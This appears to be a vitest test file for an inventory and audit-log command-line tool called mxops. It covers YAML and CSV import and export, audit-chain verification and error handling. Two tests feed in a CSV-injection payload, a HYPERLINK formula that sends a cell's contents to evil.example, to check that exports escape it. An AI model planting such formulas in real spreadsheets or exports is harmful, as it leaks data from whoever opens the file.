import { manualClock } from '../support/manual-clock.js';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runAuditExport, runAuditVerify } from '../../commands/audit-log.js';
import { runInventoryExport, runInventoryImport } from '../../commands/inventory-file.js';
import { parseInventoryYaml } from '../../src/patching/inventory-yaml.js';
import { cliBudget, runMxops } from '../support/cli-process.js';
import { openTestDatabase, STORE_DIALECTS, type TestDatabase } from '../support/test-database.js';

const EXAMPLE = 'test/fixtures/inventory/example.yaml';
const now = Date.parse('2026-11-20T10:00:00Z');
const budget = await cliBudget();

describe.each(STORE_DIALECTS)('inventory and audit commands on %s', (dialect) => {
  let store: TestDatabase;
  let dir: string;
  const deps = () => ({ store, readFile: (path: string) => readFile(path, 'utf8'), clock: manualClock(now) });
  beforeEach(async () => {
    store = await openTestDatabase(dialect);
    dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
  });
  afterEach(async () => {
    await store.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('imports the example, says nothing changed the second time, and exports what reads back the same', async () => {
    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps())).toBe(
      `${EXAMPLE}: people: 3 added, 0 updated, 0 unchanged; policies: 2 added, 0 updated, 0 unchanged; systems: 3 added, 0 updated, 0 unchanged; patches: 5 added, 0 updated, 0 unchanged\n`,
    );
    expect(await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps())).toMatch(
      /patches: 0 added, 0 updated, 5 unchanged \(nothing changed\)\n$/,
    );
    const yaml = await runInventoryExport({}, { store });
    const original = parseInventoryYaml(readFileSync(EXAMPLE, 'utf8'));
    const exported = parseInventoryYaml(yaml, 'export.yaml');
    expect(exported.systems.map((system) => system.name).sort()).toEqual(
      original.systems.map((system) => system.name).sort(),
    );
    expect(exported.patches).toHaveLength(original.patches.length);
    // The export imports as "nothing changed": the round trip through the store is exact.
    writeFileSync(join(dir, 'export.yaml'), yaml);
    expect(await runInventoryImport({ file: join(dir, 'export.yaml'), actor: 'alice', claimed: true }, deps())).toMatch(
      /\(nothing changed\)/,
    );
    // A CSV of one kind imports too.
    writeFileSync(join(dir, 'patches.csv'), await runInventoryExport({ format: 'csv', kind: 'patches' }, { store }));
    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice', claimed: true }, deps())).toBe(
      `${join(dir, 'patches.csv')}: patches: 0 added, 0 updated, 5 unchanged (nothing changed)\n`,
    );
  });

  it('exports a title a spreadsheet would run as a formula with a leading quote, and the export imports as nothing changed', async () => {
    await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps());
    const hostile = `${readFileSync(EXAMPLE, 'utf8').replace(/^patches:\n/m, 'patches:\n  - system: mail-gw-1\n    title: \'=HYPERLINK("http://evil.example/?x="&A1,"Fix")\'\n    severity: low\n    released: 2026-11-01\n  - system: mail-gw-1\n    title: "-5"\n    severity: low\n    released: 2026-11-02\n')}`;
    writeFileSync(join(dir, 'hostile.yaml'), hostile);
    expect(
      await runInventoryImport({ file: join(dir, 'hostile.yaml'), actor: 'alice', claimed: true }, deps()),
    ).toMatch(/patches: 2 added/);
    const csv = await runInventoryExport({ format: 'csv', kind: 'patches' }, { store });
    expect(csv).toContain(`mail-gw-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Fix"")",,low,2026-11-01,`);
    expect(csv).toContain('mail-gw-1,-5,,low,2026-11-02,');
    writeFileSync(join(dir, 'patches.csv'), csv);
    expect(await runInventoryImport({ file: join(dir, 'patches.csv'), actor: 'alice', claimed: true }, deps())).toMatch(
      /patches: 0 added, 0 updated, \d+ unchanged \(nothing changed\)\n$/,
    );
  });

  it('exports audit cells a spreadsheet would run as formulas with a leading quote, as the inventory export does', async () => {
    // --as takes any text: the actor of every entry the import writes.
    const actor = '=HYPERLINK("http://evil.example/?x="&A1,"alice")';
    await runInventoryImport({ file: EXAMPLE, actor, claimed: true }, deps());
    const csv: string[] = [];
    await runAuditExport({ format: 'csv' }, { store, clock: manualClock(now), write: (text) => csv.push(text) });
    const [header, first] = csv.join('').split('\n');
    expect(header).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash');
    expect(first).toMatch(
      /^1,2026-11-20T10:00:00\.000Z,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""alice""\)",person-added,,"cli, claimed","\{/,
    );
  });

  it('refuses bad input with a specific message and writes nothing', async () => {
    await expect(
      runInventoryImport({ file: join(dir, 'inventory.txt'), actor: 'a', claimed: true }, deps()),
    ).rejects.toThrow('use --format yaml or --format csv');
    await expect(
      runInventoryImport({ file: join(dir, 'missing.yaml'), actor: 'a', claimed: true }, deps()),
    ).rejects.toThrow(/cannot read .*missing.yaml: no such file/);
    writeFileSync(join(dir, 'bad.yaml'), 'systems:\n  - name: s1\n    criticality: urgent\n');
    await expect(
      runInventoryImport({ file: join(dir, 'bad.yaml'), actor: 'a', claimed: true }, deps()),
    ).rejects.toThrow(
      /bad.yaml:3: systems\[0\]\.criticality: must be one of critical, high, medium, low \(got "urgent"\)/,
    );
    await expect(runInventoryExport({ format: 'csv' }, { store })).rejects.toThrow('add --kind people|systems|patches');
    await expect(runInventoryExport({ format: 'xml' }, { store })).rejects.toThrow('unknown format "xml"');
    expect(await runAuditVerify({ store })).toEqual({
      output: expect.stringContaining('intact: 0 entries'),
      exitCode: 0,
    });
  });

  it('verifies the audit log, names the first broken entry, and exports it as JSON or CSV from a date', async () => {
    await runInventoryImport({ file: EXAMPLE, actor: 'alice', claimed: true }, deps());
    expect((await runAuditVerify({ store })).exitCode).toBe(0);
    const chunks: string[] = [];
    await runAuditExport(
      { format: 'json', since: '2026-11-01' },
      { store, clock: manualClock(now), write: (text) => chunks.push(text) },
    );
    const entries = JSON.parse(chunks.join('')) as { seq: number; actor: string; details: string }[];
    expect(entries).toHaveLength(14);
    expect(entries[0]).toMatchObject({ seq: 1, actor: 'alice', action: 'person-added' });
    const csv: string[] = [];
    await runAuditExport(
      { format: 'csv', since: '1d' },
      { store, clock: manualClock(Date.now() + 3 * 86_400_000), write: (text) => csv.push(text) },
    );
    expect(csv.join('')).toBe('seq,at,actor,action,system,surface,details,prev_hash,hash\n');
    await expect(
      runAuditExport({ since: 'last tuesday' }, { store, clock: manualClock(now), write: () => undefined }),
    ).rejects.toThrow('neither a date');

    await sql`update audit_log set details = '{}' where seq = 5`.execute(store.db);
    expect(await runAuditVerify({ store })).toEqual({
      output: expect.stringContaining('BROKEN at entry 5'),
      exitCode: 1,
    });
  });
});

describe('the mxops command line', () => {
  it(
    'imports (recording --as as claimed), verifies, prints the outage calendar, and exits 2 on bad input',
    async () => {
      const dir = mkdtempSync(join(tmpdir(), 'mxops-cli-'));
      const run = (...args: string[]) => runMxops(args, { DATABASE_URL: `sqlite:${join(dir, 'cli.sqlite')}` });
      try {
        expect(await run('inventory', 'import', EXAMPLE, '--as', 'alice')).toMatchObject({
          code: 0,
          stdout: expect.stringContaining('systems: 3 added'),
        });
        expect(await run('audit', 'verify')).toMatchObject({
          code: 0,
          stdout: expect.stringMatching(/^audit log intact: 14 entries, head [0-9a-f]{64}\n$/),
        });
        // --as is taken on trust: recorded as claimed. Without it, the OS account running mxops.
        writeFileSync(join(dir, 'people.csv'), 'handle,name,timeZone\ndave,Dave Ops,UTC\n');
        expect(await run('inventory', 'import', join(dir, 'people.csv'))).toMatchObject({ code: 0 });
        const exported = await run('audit', 'export', '--format', 'json');
        const who = (JSON.parse(exported.stdout) as { actor: string; surface: string }[]).map(
          (entry) => `${entry.actor} (${entry.surface})`,
        );
        expect(new Set(who)).toEqual(new Set(['alice (cli, claimed)', `cli:${userInfo().username} (cli)`]));
        const calendar = await run('outage', 'calendar', '--since', '7d');
        expect(calendar).toMatchObject({
          code: 0,
          stdout: expect.stringMatching(/^BEGIN:VCALENDAR\r\n[\s\S]*END:VCALENDAR/),
        });
        expect(await run('outage', 'calendar', '--since', 'last week')).toMatchObject({
          code: 2,
          stderr: expect.stringContaining('neither a date'),
        });
        writeFileSync(join(dir, 'bad.csv'), 'handle,name\nalice\n');
        expect(await run('inventory', 'import', join(dir, 'bad.csv'))).toMatchObject({
          code: 2,
          stderr: expect.stringContaining('bad.csv'),
        });
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
    budget(7),
  );
});
